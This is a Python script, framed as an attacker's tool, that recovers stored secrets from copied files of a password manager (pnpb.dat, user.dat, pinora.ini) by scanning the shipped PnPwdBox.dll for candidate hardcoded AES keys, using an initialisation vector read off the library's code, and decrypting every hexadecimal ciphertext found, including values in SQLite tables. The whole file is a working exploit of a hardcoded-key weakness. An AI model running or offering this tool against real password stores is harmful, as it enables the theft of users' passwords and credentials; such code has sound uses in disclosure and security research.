#!/usr/bin/env python3
"""An attacker's look at a copied password box.

Given copies of pnpb.dat, user.dat and pinora.ini (and any other files) and the
shipped PnPwdBox.dll, it takes every 32-character printable run of the library
as a candidate for the built-in key of the old text cipher, with the
initialisation vector the library assembles at run time, and decrypts every
hexadecimal text of whole blocks it finds in the files. It prints each text it
recovers, one a line. No guessing: whatever the old cipher guards, it gets.

    pwdbox_attacker.py <PnPwdBox.dll> <file>...
"""
import re
import sqlite3
import subprocess
import sys

# Bytes the library puts together for its initialisation vector (read off its code).
IV = bytes([0x5C, 0x0E, 0x93, 0x27, 0xB1, 0x48]) + b"v3Ktq" + bytes([0xD4, 0x6F, 0x02, 0xE8, 0x7B])
HEX = re.compile(rb"[0-9A-Fa-f]{32,}")


def key_candidates(library):
    data = open(library, "rb").read()
    return {run for run in re.findall(rb"(?<![\x20-\x7e])[\x20-\x7e]{32}(?![\x20-\x7e])", data)}


def texts_in(path):
    """Every hexadecimal run of the file; for a database, every text value too."""
    raw = open(path, "rb").read()
    found = {m.group(0).decode() for m in HEX.finditer(raw)}
    if raw.startswith(b"SQLite format 3"):
        db = sqlite3.connect("file:%s?mode=ro" % path, uri=True)
        for (table,) in db.execute("select name from sqlite_master where type='table'"):
            for row in db.execute('select * from "%s"' % table):
                found.update(v for v in row if isinstance(v, str))
        db.close()
    return {t for t in found if re.fullmatch(r"[0-9A-Fa-f]+", t) and len(t) % 32 == 0}


def decrypt(key, text):
    out = subprocess.run(
        ["openssl", "enc", "-d", "-aes-256-cbc", "-nopad", "-K", key.hex(), "-iv", IV.hex()],
        input=bytes.fromhex(text), capture_output=True)
    plain = out.stdout.rstrip(b"\0")
    if out.returncode == 0 and plain and all(32 <= b < 127 for b in plain):
        return plain.decode()
    return None


def main():
    keys = key_candidates(sys.argv[1])
    recovered = set()
    for path in sys.argv[2:]:
        for text in texts_in(path):
            for key in keys:
                plain = decrypt(key, text)
                if plain:
                    recovered.add(plain)
    for plain in sorted(recovered):
        print(plain)


if __name__ == "__main__":
    main()
